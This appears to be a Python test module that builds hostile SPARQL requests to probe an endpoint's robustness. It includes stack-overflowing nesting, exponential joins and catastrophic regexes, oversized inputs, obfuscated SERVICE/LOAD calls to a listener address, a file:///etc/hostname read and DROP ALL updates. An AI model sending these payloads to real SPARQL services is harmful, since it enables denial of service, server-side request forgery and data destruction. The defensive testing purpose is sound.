"""List the queries that try to crash, exhaust or misuse the endpoint, by what they aim at.

Sizes are those that ended an unprotected process, or as large as the cap on a query's length (64 KiB) lets through.
"""

from collections.abc import Iterator
from dataclasses import dataclass, replace
from itertools import chain
from typing import Final

from bench.wire import Request, get, post

CAP: Final = 64 * 1024
ANYTHING: Final = "?s ?p ?o"
PARTS: Final = "FROM <https://w3id.org/m4sd/graph/asserted> FROM <https://w3id.org/m4sd/graph/inferred>"


@dataclass(frozen=True, slots=True)
class Shape:
    """Carry one hostile request, what it aims at, and the one status that may answer it, where only one may."""

    name: str
    aim: str
    request: Request
    must: int | None = None

    def marked(self, mark: str) -> Request:
        """Return the request with a comment at the end of its query, so that nobody knows the text already."""
        sent = self.request
        if sent.method != "POST" or not sent.body.startswith(b"query=") or b"&" in sent.body:
            return sent
        return replace(sent, body=sent.body + f"%0A%23{mark}".encode())


def shapes(trap: str) -> tuple[Shape, ...]:
    """Return all shapes; those that aim at the network call `trap`, an address where somebody listens."""
    queries = chain(
        _of("stack", _stack()),
        _of("planning", _planning()),
        _of("time", _time()),
        _of("memory", _memory()),
        _of("size", _size()),
        _of("network", _network(trap)),
    )
    return (*queries, *_parameters(trap), *_updates(trap))


def _of(aim: str, queries: dict[str, str]) -> Iterator[Shape]:
    return (
        Shape(name, aim, post(text, "application/sparql-results+json, text/turtle;q=0.9"))
        for name, text in queries.items()
    )


def _nest(opening: str, core: str, closing: str, depth: int) -> str:
    return opening * depth + core + closing * depth


def _deepest(opening: str, core: str, closing: str, around: int = 64) -> str:
    return _nest(opening, core, closing, (CAP - len(core) - around) // len(opening + closing))


def _many(pattern: str, count: int, separator: str = " ") -> str:
    return separator.join(pattern.format(i=i, j=i + 1) for i in range(count))


def _stack() -> dict[str, str]:
    """Nest and chain until a recursive parser, planner or evaluator leaves its stack."""
    where = "SELECT * {{ {} }}".format
    filtered = "SELECT * {{ FILTER({}) }}".format
    selected = "SELECT ({} AS ?x) {{}}".format
    return {
        "exists-900": where(_nest("FILTER EXISTS { ", "?s ?p ?o", " }", 900)),
        "exists-deepest": where(_deepest("FILTER EXISTS{", "", "}")),
        "not-exists-deepest": where(_deepest("FILTER NOT EXISTS{", "", "}")),
        "functions-1000": selected(_nest("STR(", "1", ")", 1000)),
        "functions-deepest": selected(_deepest("STR(", "1", ")")),
        "if-deepest": selected(_deepest("IF(1,", "1", ",1)")),
        "coalesce-deepest": selected(_deepest("COALESCE(", "1", ")")),
        "braces-2300": where(_nest("{ ", ANYTHING, " }", 2300)),
        "braces-deepest": where(_deepest("{", "", "}")),
        "binds-2600": where(_many("BIND(1 AS ?v{i})", 2600)),
        "parentheses-4700": filtered(_nest("(", "1", ")", 4700)),
        "parentheses-deepest": filtered(_deepest("(", "1", ")")),
        "unions-6700": where("{}" + " UNION {}" * 6700),
        "plus-6900": selected("1" + "+1" * 6900),
        "plus-longest": selected("1" + "+1" * ((CAP - 64) // 2)),
        "not-9400": filtered("!" * 9400 + "true"),
        "not-longest": filtered("!" * (CAP - 64) + "true"),
        "minus-signs-longest": filtered("- " * (CAP // 2 - 64) + "1"),
        "or-longest": filtered("1" + "||1" * ((CAP - 64) // 3)),
        "in-deepest": filtered(_deepest("1 IN(", "1", ")")),
        "optional-deepest": where(_deepest("OPTIONAL{", "", "}")),
        "minus-deepest": where(_deepest("MINUS{", "", "}")),
        "graph-deepest": where(_deepest("GRAPH ?g{", "", "}")),
        "subselect-deepest": where(_deepest("{SELECT*", "{}", "}")),
        "path-parentheses-deepest": where("?s " + _deepest("(", "m4sd:partOf", ")*") + " ?o"),
        "path-inverse-longest": where("?s " + "^" * (CAP - 128) + "m4sd:partOf ?o"),
        "path-alternatives": where("?s " + "|".join(["id:a"] * 12000) + " ?o"),
        "lists-deepest": where("?s ?p " + _deepest("(", "1", ")")),
        "blank-nodes-deepest": where("?s ?p " + _deepest("[?p ", "1", "]")),
        "triple-terms-deepest": where(_deepest("<<(?s ?p ", "1", ")>>") + " ?q ?r"),
        "annotations-deepest": where("?s ?p ?o " + _deepest("{|?p ?o ", "", "|}")),
    }


def _planning() -> dict[str, str]:
    """Give the planner more parts than it can order: this step cannot be cancelled."""
    return {
        "triples-300": f"SELECT * {{ {_many('?v{i} ?p{i} ?v{j} .', 300)} }}",
        "star-300": f"SELECT * {{ {_many('?s ?p{i} ?o{i} .', 300)} }}",
        "optionals-300": f"SELECT * {{ ?v0 a ?c {_many('OPTIONAL {{ ?v{i} ?p{i} ?v{j} }}', 300)} }}",
        "list-300": f"SELECT * {{ ?s ?p ({_many('?v{i}', 300)}) }}",
        "path-sequence-300": f"SELECT * {{ ?s {'/'.join(['m4sd:partOf'] * 300)} ?o }}",
        "or-2000": f"SELECT * {{ ?s ?p ?o FILTER({_many('?o = {i}', 2000, ' || ')}) }}",
        "unions-1000": f"SELECT * {{ {_many('{{ ?s ?p{i} ?o }}', 1000, ' UNION ')} }}",
        "graphs-300": f"SELECT * {{ {_many('GRAPH ?g{i} {{ ?v{i} ?p{i} ?v{j} }}', 300)} }}",
        "values-join-300": f"SELECT * {{ {_many('VALUES ?v{i} {{ 1 2 3 4 5 6 7 8 }}', 300)} }}",
    }


def _time() -> dict[str, str]:
    """Multiply until nothing ends."""
    product = "?a ?b ?c . ?d ?e ?f . ?g ?h ?i"
    long = '"' + "a" * 5000 + '!"'
    return {
        "product-rows": f"SELECT * {{ {product} }}",
        "product-count": f"SELECT (COUNT(*) AS ?n) {{ {product} }}",
        "product-order": f"SELECT * {{ {product} }} ORDER BY DESC(?i) ?h LIMIT 5",
        "product-distinct": f"SELECT DISTINCT ?b ?e ?h {{ {product} }}",
        "product-count-distinct": f"SELECT (COUNT(DISTINCT *) AS ?n) {{ {product} }}",
        "product-ask": f"ASK {{ {product} FILTER(?a = 1) }}",
        "product-offset": f"SELECT * {{ {product} }} OFFSET 4000000000 LIMIT 1",
        "product-graphs": "SELECT (COUNT(*) AS ?n) { GRAPH ?x { ?a ?b ?c } GRAPH ?y { ?d ?e ?f } }",
        "product-not-exists": f"SELECT * {{ {product} FILTER NOT EXISTS {{ ?c ?z ?d . ?f ?y ?a }} }} ORDER BY ?a",
        "product-exists": f"ASK {{ {product} FILTER EXISTS {{ {{ ?c ?z ?x . ?x ?y ?w }} FILTER(?w = 1) }} }}",
        "product-regex": f'SELECT (COUNT(*) AS ?n) {{ {product} FILTER REGEX(STR(?c), "(a+)+$") }}',
        "product-construct": f"CONSTRUCT {{ ?a ?e ?i }} {{ {product} }}",
        "product-hashes": f"SELECT (SUM(STRLEN(SHA512(STR(?c)))) AS ?n) {{ {product} }}",
        "path-star-free": "SELECT * { ?x m4sd:partOf* ?y }",
        "path-negated-star-free": "SELECT (COUNT(*) AS ?n) { ?x (!m4sd:none)* ?y }",
        "path-both-ways-free": "SELECT (COUNT(*) AS ?n) { ?x (!m4sd:none|!^m4sd:none)+ ?y }",
        "path-star-thrice": "SELECT (COUNT(*) AS ?n) { ?a (!id:a)* ?b . ?b (!id:b)* ?c . ?c (!id:c)* ?d }",
        "regex-nested-plus": f'SELECT (REGEX({long}, "(a+)+$") AS ?x) {{}}',
        "regex-repetition": f'SELECT (REGEX({long}, "((((a{{1,999}}){{1,999}}){{1,99}}))$") AS ?x) {{}}',
        "regex-everything": 'SELECT * { ?s ?p ?o FILTER REGEX(STR(?o), "(.*a){12}b", "i") }',
        "join-without-share": "SELECT (COUNT(*) AS ?n) { { ?a ?b ?c } { ?d ?e ?f } MINUS { ?a ?e ?x } }",
        "lateral": "SELECT (COUNT(*) AS ?n) { ?a ?b ?c LATERAL { SELECT * { ?d ?e ?f } ORDER BY ?f } }",
    }


def _memory() -> dict[str, str]:
    """Hold everything at once."""
    doubled = " ".join(f"BIND(CONCAT(?v{i}, ?v{i}) AS ?v{i + 1})" for i in range(34))
    replaced = " ".join(f'BIND(REPLACE(?v{i}, "a", "aaaaaaaa") AS ?v{i + 1})' for i in range(12))
    encoded = " ".join(f"BIND(ENCODE_FOR_URI(?v{i}) AS ?v{i + 1})" for i in range(24))
    triple = "?a ?b ?c . ?d ?e ?f"
    return {
        "order-flood": f"SELECT * {{ {triple} }} ORDER BY ?c ?f",
        "order-computed": f"SELECT * {{ {triple} }} ORDER BY CONCAT(STR(?a), STR(?c), STR(?d), STR(?f))",
        "group-flood": f"SELECT ?a ?f (COUNT(*) AS ?n) {{ {triple} }} GROUP BY ?a ?f ORDER BY ?n",
        "group-concat-flood": f"SELECT (GROUP_CONCAT(CONCAT(STR(?c), STR(?f))) AS ?x) {{ {triple} }}",
        "group-concat-distinct": f"SELECT (GROUP_CONCAT(DISTINCT CONCAT(STR(?c), STR(?f))) AS ?x) {{ {triple} }}",
        "distinct-flood": f"SELECT (COUNT(DISTINCT CONCAT(STR(?a), STR(?f))) AS ?n) {{ {triple} }}",
        "doubling-concat": f'SELECT (STRLEN(?v34) AS ?n) {{ BIND("aaaaaaaa" AS ?v0) {doubled} }}',
        "doubling-replace": f'SELECT (STRLEN(?v12) AS ?n) {{ BIND("a" AS ?v0) {replaced} }}',
        "doubling-encode": f'SELECT (STRLEN(?v24) AS ?n) {{ BIND("%%%%%%%%" AS ?v0) {encoded} }}',
        "doubling-rows": f'SELECT ?s ?v24 {{ BIND("aaaa" AS ?v0) {doubled[: doubled.index("AS ?v25") + 8]} ?s ?p ?o }}',
        "everything-rows": "SELECT * { { ?s ?p ?o } UNION { GRAPH ?g { ?s ?p ?o } } }",
        "everything-twice": "SELECT ?s ?p ?o ?q ?x { ?s ?p ?o . ?s ?q ?x }",
        "everything-construct": "CONSTRUCT { ?s ?p ?o . ?o ?p ?s . ?g ?s ?o } { GRAPH ?g { ?s ?p ?o } }",
        "construct-blank-nodes": f"CONSTRUCT {{ [] ?b [] . [] ?e [] }} {{ {triple} }}",
        "describe-everything": "DESCRIBE * { ?s ?p ?o }",
        "describe-named": "DESCRIBE ?s ?o { GRAPH ?g { ?s ?p ?o } }",
        "merge-of-graphs": f"SELECT (COUNT(*) AS ?n) {PARTS} {{ {triple} }}",
    }


def _size() -> dict[str, str]:
    """Send large texts, below the cap and beyond it."""
    return {
        "literal-longest": f'SELECT ("{"a" * (CAP - 64)}" AS ?x) {{}}',
        "literal-over-cap": f'SELECT ("{"a" * CAP}" AS ?x) {{}}',
        "iri-longest": f"SELECT * {{ <http://x/{'a' * (CAP - 64)}> ?p ?o }}",
        "name-longest": f"SELECT * {{ id:{'a' * (CAP - 64)} ?p ?o }}",
        "dotted-name-longest": f"SELECT * {{ sdg:{'1.' * (CAP // 2 - 64)}1 ?p ?o }}",
        "unknown-names": f"SELECT * {{ VALUES ?x {{ {_many('id:nothing-{i}', 2500)} }} ?x ?p ?o }}",
        "variable-longest": f"SELECT * {{ ?s ?p ?{'a' * (CAP - 64)} }}",
        "values-huge": f"SELECT * {{ VALUES ?x {{ {_many('{i}', 10000)} }} ?s ?p ?o FILTER(?x != ?o) }}",
        "in-huge": f"SELECT * {{ ?s ?p ?o FILTER(?o IN ({_many('{i}', 10000, ',')})) }}",
        "projection-huge": f"SELECT {_many('({i} AS ?v{i})', 3000)} {{ ?s ?p ?o }}",
        "prefixes-huge": f"{_many('PREFIX p{i}: <http://x/{i}>', 2000)} ASK {{ p7:a ?p ?o }}",
        "from-huge": f"SELECT * {_many('FROM <http://x/{i}>', 2500)} {{ ?s ?p ?o }}",
        "comment-over-cap": f"ASK {{}} #{'a' * (900 * 1024)}",
        "quotes-longest": 'SELECT ("' + '\\"' * (CAP // 2 - 64) + '" AS ?x) {}',
        "unclosed-strings": "SELECT * { ?s ?p " + "'''" * (CAP // 3 - 64),
        "unclosed-iris": "SELECT * { " + "<a" * (CAP // 2 - 64),
        "open-braces": "{" * (CAP - 64),
        "backslashes": 'SELECT * { ?s ?p "' + "\\" * (CAP - 64),
        "nul-bytes": "SELECT * { ?s ?p " + "\0" * 1000 + " }",
    }


def _network(trap: str) -> dict[str, str]:
    """Call out: by every spelling of SERVICE, by FROM, by names that look like addresses."""
    inner = "{ ?a ?b ?c }"
    prefix = f"PREFIX t: <{trap}> "
    return {
        "service": f"SELECT * {{ SERVICE <{trap}service> {inner} }}",
        "service-lower": f"SELECT * {{ service <{trap}lower> {inner} }}",
        "service-mixed": f"SELECT * {{ SeRvIcE<{trap}mixed>{inner} }}",
        "service-silent": f"SELECT * {{ SERVICE SILENT <{trap}silent> {inner} }}",
        "service-variable": f"SELECT * {{ VALUES ?e {{ <{trap}variable> }} SERVICE ?e {inner} }}",
        "service-bound": f'SELECT * {{ BIND(IRI("{trap}bound") AS ?e) SERVICE SILENT ?e {inner} }}',
        "service-after-digit": f"SELECT * {{ ?s ?p 1SERVICE <{trap}digit> {inner} }}",
        "service-after-decimal": f"SELECT * {{ ?s ?p 1.SERVICE <{trap}decimal> {inner} }}",
        "service-after-exponent": f"SELECT * {{ ?s ?p 1e0SERVICE <{trap}exponent> {inner} }}",
        "service-after-string": f'SELECT * {{ ?s ?p "x"SERVICE <{trap}string> {inner} }}',
        "service-after-tag": f'SELECT * {{ ?s ?p "x"@en SERVICE <{trap}tag> {inner} }}',
        "service-after-true": f"SELECT * {{ ?s ?p true.SERVICE <{trap}true> {inner} }}",
        "service-after-name": f"SELECT * {{ ?s ?p id:a.SERVICE <{trap}name> {inner} }}",
        "service-after-iri": f"SELECT * {{ ?s ?p <a>SERVICE <{trap}iri> {inner} }}",
        "service-after-nil": f"SELECT * {{ ?s ?p ()SERVICE <{trap}nil> {inner} }}",
        "service-after-less": f"SELECT * {{ FILTER(1<2)SERVICE <{trap}less> {inner} FILTER(2>1) }}",
        "service-comment-inside": f"SELECT * {{ SERVICE#<a>\n<{trap}comment> {inner} }}",
        "service-comment-before": f"SELECT * {{ # '''\nSERVICE <{trap}before> {inner} # '''\n }}",
        "service-comment-return": f"SELECT * {{ # x\rSERVICE <{trap}return> {inner} }}",
        "service-hash-in-iri": f"SELECT * {{ ?s <http://x/#> ?o SERVICE <{trap}hash> {inner} }}",
        "service-quote-in-iri": f"SELECT * {{ ?s <http://x/'> ?o SERVICE <{trap}quote> {inner} . ?t <http://x/'> ?u }}",
        "service-between-strings": f"SELECT * {{ ?s ?p '\\'' SERVICE <{trap}strings> {inner} ?t ?q '\\'' }}",
        "service-escaped-short": f"SELECT * {{ \\u0053ERVICE <{trap}escaped> {inner} }}",
        "service-escaped-long": f"SELECT * {{ SERVIC\\U00000045 <{trap}escapedlong> {inner} }}",
        "service-escaped-space": f"SELECT * {{ SERVICE\\u0020<{trap}space> {inner} }}",
        "service-escaped-quote": f"SELECT * {{ ?s ?p \\u0022x\\u0022 SERVICE <{trap}escapedquote> {inner} }}",
        "service-fullwidth": f"SELECT * {{ \uff33ERVICE <{trap}fullwidth> {inner} }}",
        "service-dotless": f"SELECT * {{ SERV\u0131CE <{trap}dotless> {inner} }}",
        "service-tabs": f"SELECT * {{\tSERVICE\t\n\r<{trap}tabs>{inner}}}",
        "service-split": f"SELECT * {{ SER\nVICE <{trap}split> {inner} }}",
        "service-prefixed": f"{prefix}SELECT * {{ SERVICE t:prefixed {inner} }}",
        "service-based": f"BASE <{trap}> SELECT * {{ SERVICE <based> {inner} }}",
        "service-in-exists": f"ASK {{ ?s ?p ?o FILTER EXISTS {{ SERVICE <{trap}exists> {inner} }} }}",
        "service-in-subselect": f"SELECT * {{ {{ SELECT * {{ SERVICE <{trap}subselect> {inner} }} LIMIT 1 }} }}",
        "service-in-optional": f"SELECT * {{ OPTIONAL {{ SERVICE SILENT <{trap}optional> {inner} }} }}",
        "service-in-construct": f"CONSTRUCT {{ ?a ?b ?c }} {{ SERVICE <{trap}construct> {inner} }}",
        "service-in-describe": f"DESCRIBE ?a {{ SERVICE <{trap}describe> {inner} }}",
        "service-of-file": "SELECT * { SERVICE <file:///etc/hostname> { ?a ?b ?c } }",
        "from-http": f"SELECT * FROM <{trap}from> {{ ?s ?p ?o }}",
        "from-named-http": f"SELECT * FROM NAMED <{trap}named> {{ GRAPH ?g {{ ?s ?p ?o }} }}",
        "graph-http": f"SELECT * {{ GRAPH <{trap}graph> {{ ?s ?p ?o }} }}",
        "describe-http": f"DESCRIBE <{trap}describehttp>",
    }


def _parameters(trap: str) -> Iterator[Shape]:
    """Name graphs in the request that lie elsewhere, and ask by GET."""
    yield Shape(
        "default-graph-http", "network", get("SELECT * { ?s ?p ?o }", **{"default-graph-uri": f"{trap}default"})
    )
    yield Shape("named-graph-http", "network", post("ASK { GRAPH ?g {} }", **{"named-graph-uri": f"{trap}named"}))
    yield Shape("service-by-get", "network", get(f"SELECT * {{ SERVICE <{trap}get> {{ ?a ?b ?c }} }}"))
    page = post("SELECT * { ?s ?p ?o }", "text/html")
    yield Shape("everything-page", "memory", page)


def _updates(trap: str) -> Iterator[Shape]:
    """Try to write, or to have something loaded, through the query endpoint: all are no queries."""
    texts = {
        "load": f"LOAD <{trap}load>",
        "load-silent": f"LOAD SILENT <{trap}loadsilent> INTO GRAPH <http://x/g>",
        "insert-data": "INSERT DATA { <http://x/a> <http://x/b> 1 }",
        "delete-where": "DELETE WHERE { ?s ?p ?o }",
        "drop-all": "DROP ALL",
        "clear-default": "CLEAR DEFAULT",
        "query-then-update": "ASK {} ; DROP ALL",
        "insert-service": f"INSERT {{ ?a ?b ?c }} WHERE {{ SERVICE <{trap}insert> {{ ?a ?b ?c }} }}",
    }
    for name, text in texts.items():
        yield Shape(name, "update", post(text), must=400)
    yield Shape("update-by-get", "update", get("DROP ALL"), must=400)
    form = Request("/sparql", "POST", (("Content-Type", "application/x-www-form-urlencoded"),), b"update=DROP+ALL")
    yield Shape("update-by-form", "update", form, must=400)
    direct = Request("/sparql", "POST", (("Content-Type", "application/sparql-update"),), b"DROP ALL")
    yield Shape("update-directly", "update", direct, must=415)
